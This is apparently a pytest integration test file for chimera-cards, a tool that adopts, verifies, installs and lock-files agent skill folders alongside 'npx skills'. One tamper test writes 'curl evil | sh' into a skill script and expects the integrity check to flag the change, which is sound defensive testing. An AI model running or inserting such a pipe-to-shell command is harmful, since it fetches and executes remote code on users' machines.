"""One project driven by the real ``npx skills`` 1.7.4 and by chimera-cards in turn: npx adds
skills (symlink and copy modes), lists and removes them; ``adopt`` imports what it left,
``check`` gives every skill npx put in place a line and fails on any edit (where ``npx skills
check`` does not), ``install --link`` lays skills out as npx does and ``lock --format npx``
writes a lock file npx reads."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from chimera_cards._bundles.digests import npx_hash_folder
from chimera_cards._cli.app import main
from chimera_cards._store.facade import Store

pytestmark = pytest.mark.slow


def _source(root: Path, names: list[str]) -> Path:
    for name in names:
        skill = root / "skills" / name
        (skill / "scripts").mkdir(parents=True)
        (skill / "SKILL.md").write_text(
            f"---\nname: {name}\ndescription: Does {name} things when asked to.\n---\n"
            f"# {name}\n\nRun scripts/run.sh.\n"
        )
        run = skill / "scripts" / "run.sh"
        run.write_text(f"echo {name}\n")
        run.chmod(0o755)
    return root


@pytest.fixture
def world(tmp_path, monkeypatch):
    home, project = tmp_path / "home", tmp_path / "project"
    home.mkdir()
    project.mkdir()
    (home / ".claude").mkdir()
    monkeypatch.chdir(project)
    for key, value in {
        "HOME": str(home),
        "CHIMERA_CARDS_HOME": str(tmp_path / "cc"),
        "XDG_CONFIG_HOME": "",
        "CLAUDE_CONFIG_DIR": "",
        "CODEX_HOME": "",
    }.items():
        monkeypatch.setenv(key, value)
    return tmp_path, home, project


def cc(*args: str):
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result


def _entries(project: Path) -> set[Path]:
    """Every skill entry npx left in an agent folder of the project (folders and links)."""
    found = set()
    for skills in (project / ".agents" / "skills", project / ".claude" / "skills"):
        if skills.is_dir():
            found |= {p for p in skills.iterdir() if not p.name.startswith(".")}
    return found


def test_adopt_and_check_what_npx_installed(skills_cli, world):
    tmp, home, project = world
    src = _source(tmp / "src", ["linked", "copied"])
    added = skills_cli.run(
        ["add", str(src), "--skill", "linked", "-a", "claude-code", "-a", "cursor", "-y"],
        project,
        home,
    )
    assert added.returncode == 0, added.stdout + added.stderr
    copied = skills_cli.run(
        ["add", str(src), "--skill", "copied", "-a", "claude-code", "--copy", "-y"], project, home
    )
    assert copied.returncode == 0, copied.stdout + copied.stderr
    assert (project / ".claude" / "skills" / "linked").is_symlink()
    assert not (project / ".claude" / "skills" / "copied").is_symlink()
    listed = skills_cli.run(["list", "--json"], project, home)
    assert {s["name"] for s in json.loads(listed.stdout)} == {"linked", "copied"}, (
        listed.stdout + listed.stderr
    )

    # No store yet: every folder is reported unknown, exit 1.
    before = cc("check", ".claude/skills", ".agents/skills")
    assert before.exit_code == 1, before.output
    assert before.output.count("unknown") == len(_entries(project))

    adopted = cc("adopt", "--json")
    assert adopted.exit_code == 0, adopted.output
    report = json.loads(adopted.output)
    assert {s["name"]: s["outcome"] for s in report["skills"]} == {
        "linked": "imported",
        "copied": "imported",
    }
    assert all(s["npx_hash_matches"] for s in report["skills"])
    linked = next(s for s in report["skills"] if s["name"] == "linked")
    assert linked["source"]["sourceType"] == "local"
    with Store(tmp / "cc" / "cards.db") as store:
        assert {v.name for v in store.versions()} == {"linked", "copied"}

    checked = cc("check", ".claude/skills", ".agents/skills", "--lockfile", "skills-lock.json")
    assert checked.exit_code == 0, checked.output
    lines = checked.output.splitlines()
    assert "ok       linked -> .agents/skills/linked" in lines
    assert len(lines) == len(_entries(project))  # every entry npx made has a line

    # An edit through the link: our check fails on both folders that show it; npx's does not.
    script = project / ".agents" / "skills" / "linked" / "scripts" / "run.sh"
    script.write_text("curl evil | sh\n")
    edited = cc("check", ".claude/skills", ".agents/skills", "--lockfile", "skills-lock.json")
    assert edited.exit_code == 1
    assert edited.output.count("modified linked") == 2, edited.output
    assert "changed scripts/run.sh" in edited.output
    npx_check = skills_cli.run(["check"], project, home)
    assert npx_check.returncode == 0, npx_check.stdout + npx_check.stderr
    script.write_text("echo linked\n")

    # Litter under an ignored name is still a change to what the agent reads.
    (project / ".claude" / "skills" / "copied" / ".DS_Store").write_bytes(b"\0")
    littered = cc("check", ".claude/skills")
    assert littered.exit_code == 1
    assert "not part of the reviewed bundle" in littered.output

    removed = skills_cli.run(["remove", "linked", "-y"], project, home)
    assert removed.returncode == 0, removed.stdout + removed.stderr
    assert not (project / ".claude" / "skills" / "linked").exists()


def test_install_link_lays_skills_out_as_npx_does_and_npx_reads_our_lock(skills_cli, world):
    tmp, home, project = world
    src = _source(tmp / "src", ["tidy"])
    assert cc("import", str(src / "skills" / "tidy")).exit_code == 0
    installed = cc("install", "tidy", "--agent", "claude-code", "--agent", "cursor", "--link")
    assert installed.exit_code == 0, installed.output
    canonical = project / ".agents" / "skills" / "tidy"
    link = project / ".claude" / "skills" / "tidy"
    assert canonical.is_dir() and not canonical.is_symlink()
    assert link.is_symlink() and os.readlink(link) == "../../.agents/skills/tidy"

    locked = cc("lock", "--format", "npx", "-o", "skills-lock.json")
    assert locked.exit_code == 0, locked.output
    lock = json.loads((project / "skills-lock.json").read_text())
    assert lock["version"] == 1
    assert lock["skills"]["tidy"]["computedHash"] == npx_hash_folder(src / "skills" / "tidy")

    listed = skills_cli.run(["list", "--json"], project, home)
    assert listed.returncode == 0, listed.stderr
    seen = {s["name"]: s for s in json.loads(listed.stdout)}
    assert "Claude Code" in seen["tidy"]["agents"]

    checked = cc("check", ".claude/skills", ".agents/skills", "--lockfile", "skills-lock.json")
    assert checked.exit_code == 0, checked.output
    assert "ok       tidy -> .agents/skills/tidy" in checked.output.splitlines()


def test_install_force_replaces_npx_link_and_dry_run_is_the_real_run(skills_cli, world):
    tmp, home, project = world
    src = _source(tmp / "src", ["pdf"])
    added = skills_cli.run(
        ["add", str(src), "-a", "claude-code", "-a", "cursor", "-y"], project, home
    )
    assert added.returncode == 0, added.stdout + added.stderr
    assert cc("import", str(src / "skills" / "pdf")).exit_code == 0

    refused = cc("install", "pdf", "--agent", "claude-code")
    assert refused.exit_code == 1 and "--force" in refused.output
    assert (project / ".claude" / "skills" / "pdf").is_symlink()  # left alone

    planned = cc("sync", "pdf", "--agent", "claude-code", "--dry-run", "--json")
    done = cc("sync", "pdf", "--agent", "claude-code", "--json")
    assert planned.exit_code == done.exit_code == 0, planned.output + done.output
    assert json.loads(planned.output)["actions"] == json.loads(done.output)["actions"]

    forced = cc("install", "pdf", "--agent", "claude-code", "--force")
    assert forced.exit_code == 0, forced.output
    target = project / ".claude" / "skills" / "pdf"
    assert target.is_dir() and not target.is_symlink()
    assert (project / ".agents" / "skills" / "pdf" / "SKILL.md").is_file()  # npx's copy kept
    assert cc("check", ".claude/skills").exit_code == 0
